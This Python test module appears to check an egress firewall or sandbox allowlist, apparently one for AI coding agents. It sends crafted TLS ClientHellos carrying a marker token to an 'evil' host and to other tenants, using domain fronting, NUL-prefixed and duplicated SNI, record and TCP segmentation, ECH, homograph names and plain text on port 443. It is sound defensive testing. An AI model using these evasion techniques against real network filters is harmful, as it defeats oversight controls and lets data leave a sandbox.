"""Names in TLS hellos that are not whom the connection is for."""
import os
import socket
import struct
import time

from common import *

FRONTING = "Fifield et al.: Domain fronting (PETS 2015)"
RFC6066 = "RFC 6066, 3"


def vector(data, width=2):
    return len(data).to_bytes(width, "big") + data


def extension(kind, data):
    return struct.pack(">H", kind) + vector(data)


def sni(*names, kind=0):
    entries = b"".join(bytes([kind]) + vector(name) for name in names)
    return extension(0, vector(entries))


def hello(*extensions, version=0x0303, suites=b"\x13\x01\x13\x02\xc0\x2f\xc0\x2b", shares=True):
    """A ClientHello with the token as session number."""
    others = extension(10, vector(b"\0\x1d\0\x17")) + extension(13, vector(b"\x04\x03\x08\x04\x04\x01"))
    others += extension(43, vector(b"\x03\x04\x03\x03", 1)) + extension(51, vector(b"\0\x1d" + vector(os.urandom(32)) if shares else b""))
    body = struct.pack(">H", version) + os.urandom(32) + vector(T.ljust(32, b"_"), 1) + vector(suites) + b"\1\0"
    body += vector(b"".join(extensions) + others)
    return b"\1" + vector(body, 3)


def record(data, version=0x0301):
    return b"\x16" + struct.pack(">H", version) + vector(data)


def send_hello(*extensions, address=SHARED):
    tell(address, 443, record(hello(*extensions)))


@row("tls.other_host", "raw egress; the first test of every suite", "evil:443 tls sni=www.evil.test")
def _():
    """The attacker's host under its own name."""
    tls(EVIL, 443, "www.evil.test", get("www.evil.test"))


@row("tls.listed_name_elsewhere", "anthropics/claude-code#20255; curl --connect-to in github/gh-aw-firewall tests",
     "evil:443 tls sni=api.example")
def _():
    """A listed name in the hello, and the attacker's address."""
    tls(EVIL, 443, "api.example", get("api.example"))


@row("tls.listed_name_elsewhere6", "curl --connect-to in github/gh-aw-firewall tests", "evil:443 tls sni=api.example")
def _():
    """A listed name in the hello, and the attacker's IPv6 address."""
    tls(EVIL6, 443, "api.example", get("api.example"))


@row("tls.fronting", f"{FRONTING}; anthropics/claude-code#20255; agentcage#214", f"shared:443 tls {TENANT}",
     open=FRONTED)
def _():
    """A listed name in the hello, and another tenant's as Host."""
    tls(SHARED, 443, "shared.example", get(TENANT))


@row("tls.fronting_http2", f"{FRONTING}; RFC 9113, 9.1.1 (connection reuse)", f"shared:443 tls {TENANT}",
     open=FRONTED)
def _():
    """A listed name in the hello, and another tenant's as :authority of an HTTP/2 request."""
    def literal(name, value):
        return b"\x00" + vector(name, 1) + vector(value, 1)
    block = literal(b":method", b"GET") + literal(b":scheme", b"https")
    block += literal(b":authority", TENANT.encode()) + literal(b":path", b"/" + T)
    data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
    data += len(block).to_bytes(3, "big") + b"\1\5\0\0\0\1" + block
    tls(SHARED, 443, "shared.example", data, alpn=["h2"])


@row("tls.shared_address", "one address for many names; Wei: Domain Shadowing (USENIX Security 2021)",
     f"shared:443 tls sni={TENANT}")
def _():
    """Another tenant's name at the address that a listed name has, too."""
    tls(SHARED, 443, TENANT, get(TENANT))


@row("tls.shared_address6", "one address for many names", f"shared:443 tls sni={TENANT}")
def _():
    """Another tenant's name at a listed name's IPv6 address."""
    tls(SHARED6, 443, TENANT, get(TENANT))


@row("tls.no_name", f"{RFC6066}; domainless fronting (Fifield)", "shared:443 tls sni=-")
def _():
    """No name at all: the host's default tenant answers."""
    tls(SHARED, 443, None, get(TENANT))


@row("tls.address_as_name", RFC6066, "shared:443 raw 203.0.113.20")
def _():
    """An address in the place of a name."""
    send_hello(sni(SHARED.encode()))


@row("tls.case_and_dot", "normalisation: case and the trailing dot", "shared:443 raw EVIL-Tenant.Example.")
def _():
    """Another tenant's name in other case, with a dot behind it."""
    send_hello(sni(b"EVIL-Tenant.Example."))


@row("tls.nul", "Marlinspike: null prefix attacks (2009)", f"shared:443 raw {TENANT}")
def _():
    """A listed name, a NUL, and another tenant's name."""
    send_hello(sni(b"shared.example\0." + TENANT.encode()))


@row("tls.two_names", RFC6066, f"shared:443 raw {TENANT}")
def _():
    """Two names in one list, of which the first is listed."""
    send_hello(sni(b"shared.example", TENANT.encode()))


@row("tls.two_lists", "RFC 8446, 4.2 (an extension twice)", f"shared:443 raw {TENANT}")
def _():
    """The extension twice: parsers differ in which they take."""
    send_hello(sni(b"shared.example"), sni(TENANT.encode()))


@row("tls.name_type", RFC6066, f"shared:443 raw {TENANT}")
def _():
    """A name of an unknown type behind a listed one."""
    entries = b"\0" + vector(b"shared.example") + b"\7" + vector(TENANT.encode())
    send_hello(extension(0, vector(entries)))


@row("tls.records", "TLS record fragmentation as zapret and GoodbyeDPI do it", "shared:443 raw")
def _():
    """A hello in two records, cut inside another tenant's name."""
    message = hello(sni(TENANT.encode()))
    cut = message.index(b"tenant")
    tell(SHARED, 443, record(message[:cut]) + record(message[cut:]))


@row("tls.segments", "GoodbyeDPI, zapret: TCP segmentation", "shared:443 raw")
def _():
    """A hello in segments of a few bytes."""
    message = record(hello(sni(TENANT.encode())))
    with dial(SHARED, 443) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(0, len(message), 9):
            sock.sendall(message[at:at + 9])
            time.sleep(0.002)
        listen(sock)


@row("tls.ech", "RFC 9849", "shared:443 raw")
def _():
    """An encrypted inner hello behind an outer name that is not listed."""
    inner = b"\0" + b"\0\1\0\1" + b"\7" + vector(b"k" * 32) + vector(b"e" * 64 + T)
    send_hello(sni(b"public.ech.test"), extension(0xFE0D, inner))


@row("tls.ech_listed_outer", "RFC 9849: who serves the outer name serves the inner one", "shared:443 raw eeee",
     open="a hello with an encrypted part looks the same, whether it hides a name or is GREASE")
def _():
    """An encrypted inner hello behind a listed outer name."""
    inner = b"\0" + b"\0\1\0\1" + b"\7" + vector(b"k" * 32) + vector(b"e" * 64 + T)
    send_hello(sni(b"shared.example"), extension(0xFE0D, inner))


@row("tls.sslv2", "RFC 5246, E.2", "shared:443 raw")
def _():
    """A hello of SSL 2, which has no place for a name."""
    body = b"\1\3\1" + struct.pack(">HHH", 3, 0, 16) + b"\0\0\x2f" + T.ljust(16, b"_")
    tell(SHARED, 443, struct.pack(">H", 0x8000 | len(body)) + body)


@row("tls.below_a_listed_name", "a wildcard where an exact name is listed", "shared:443 tls sni=deep.shared.example")
def _():
    """A name below a listed one."""
    tls(SHARED, 443, "deep.shared.example", get("deep.shared.example"))


@row("tls.punycode", "RFC 5891; homographs", "shared:443 raw xn--")
def _():
    """A name that looks like a listed one."""
    send_hello(sni(b"xn--shared-9ya.example"))


@row("tls.utf8", "RFC 6066 wants ASCII", "shared:443 raw")
def _():
    """A full stop of another script in the name, which some normalise to a dot."""
    send_hello(sni(TENANT.replace(".", "\u3002").encode()))


@row("tls.other_port", "github/gh-aw-firewall#207; anthropic-experimental/sandbox-runtime#274", "api:8443 tls")
def _():
    """TLS to a listed host on a port that is not listed."""
    tls(API, 8443, "api.example", get("api.example"))


@row("tls.plain_text", "plain text on a port for TLS; anthropics/claude-code#40213", f"shared:443 raw {TENANT}")
def _():
    """Plain HTTP for another tenant on the port for TLS."""
    tell(SHARED, 443, get(TENANT))


@row("tls.padding", "RFC 7685; hellos of post-quantum size and beyond", "shared:443 raw")
def _():
    """A name behind so much padding that a small buffer does not hold it."""
    message = hello(extension(21, b"\0" * 60000), sni(TENANT.encode()))
    data = b"".join(record(message[at:at + 16000]) for at in range(0, len(message), 16000))
    tell(SHARED, 443, data)


@row("tls.empty_record", "RFC 8446, 5.1: no handshake record is empty", "shared:443 raw")
def _():
    """An empty record before the hello."""
    tell(SHARED, 443, record(b"") + record(hello(sni(TENANT.encode()))))


@row("tls.alert_first", "parsers that skip what they do not expect", "shared:443 raw")
def _():
    """A warning before the hello."""
    tell(SHARED, 443, b"\x15\3\1\0\2\1\0" + record(hello(sni(TENANT.encode()))))


@row("tls.retry_other_name", "RFC 8446, 4.1.2: the second hello after a HelloRetryRequest", f"shared:443 raw {TENANT}")
def _():
    """A listed name in the first hello, and another tenant's in the one that the server asks for."""
    with dial(SHARED, 443) as sock:
        sock.sendall(record(hello(sni(b"shared.example"), shares=False)))
        if not listen(sock, 2).startswith(b"\x16"):
            raise SystemExit("no second hello was asked for")
        sock.sendall(record(hello(sni(TENANT.encode()))))
        listen(sock)
